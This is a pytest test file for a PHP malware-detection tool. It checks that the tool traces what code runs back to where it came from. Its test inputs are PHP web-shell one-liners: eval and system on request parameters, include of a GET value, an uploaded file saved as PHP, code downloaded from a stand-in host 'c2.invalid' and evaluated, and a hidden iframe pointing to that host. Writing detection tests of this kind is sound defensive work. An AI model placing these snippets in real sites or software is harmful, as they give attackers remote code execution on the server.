"""PHP: what is run, and where it came from: a visitor, another host, an encoding, a file."""

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vedette.triage.allowance import Allowance
from vedette.triage.fact import Act, Fact
from vedette.triage.facts import facts
from vedette.triage.kinds import Kind
from vedette.triage.sample import Sample


def read(text: str) -> list[Fact]:
    return list(facts(Sample(name="a.php", data=text.encode(), kind=Kind.PHP), Allowance()))


def fed(text: str, act: Act) -> set[Act]:
    """Return what flows into facts of one act."""
    return {one.act for fact in read(text) if fact.act is act for one in fact.inputs}


@pytest.mark.parametrize(
    ("text", "act", "source"),
    [
        ("<?php eval($_POST['x']);", Act.RUNS_CODE, Act.READS_INPUT),
        ("<?php $c = $_GET['c']; system($c);", Act.RUNS_COMMAND, Act.READS_INPUT),
        ("<?php $f = 'ass'.'ert'; $f($_REQUEST['q']);", Act.RUNS_CODE, Act.READS_INPUT),
        ("<?php $_GET['f']($_GET['a']);", Act.RUNS_CODE, Act.READS_INPUT),
        ("<?php include $_GET['page'];", Act.RUNS_CODE, Act.READS_INPUT),
        ("<?php eval(base64_decode('ZWNobyAxOw=='));", Act.RUNS_CODE, Act.DECODES),
        ("<?php $x = file_get_contents('http://c2.invalid/a'); eval($x);", Act.RUNS_CODE, Act.DOWNLOADS),
        ("<?php move_uploaded_file($_FILES['f']['tmp_name'], 'x.php');", Act.WRITES_FILE, Act.READS_INPUT),
        ("<?php echo `{$_GET['c']}`;", Act.RUNS_COMMAND, Act.READS_INPUT),
    ],
)
def test_what_runs_knows_where_it_came_from(text: str, act: Act, source: Act) -> None:
    assert source in fed(text, act)


def test_a_frame_nobody_sees_is_told() -> None:
    text = "<?php echo '<iframe src=\"http://c2.invalid\" width=0 height=0></iframe>';"
    assert [one.act for one in read(text)] == [Act.OPENS_EXTERNAL]


def test_a_quote_stands_where_its_place_is() -> None:
    (fact,) = [one for one in read("eval($_POST['x']);") if one.act is Act.RUNS_CODE]
    assert fact.quote == "eval($_POST['x'])"
    assert (getattr(fact.place, "line", 0), getattr(fact.place, "column", 0)) == (1, 1)


@pytest.mark.parametrize(
    "text",
    [
        "<?php require 'a.php'; echo htmlspecialchars($_GET['q']);",
        "<?php $x = json_decode(base64_decode($_POST['x'])); echo $x->name;",
        "<?php function run($a) { return $a + 1; } echo run(2);",
    ],
)
def test_ordinary_pages_run_nothing_of_others(text: str) -> None:
    assert not {Act.RUNS_CODE, Act.RUNS_COMMAND} & {one.act for one in read(text)}


@given(st.text(alphabet="$(){}[].'\"\\;<>?=^~ \nabx019_GET", max_size=120))
@settings(max_examples=100, deadline=None)
def test_no_text_breaks_it(text: str) -> None:
    read(f"<?php eval({text}")
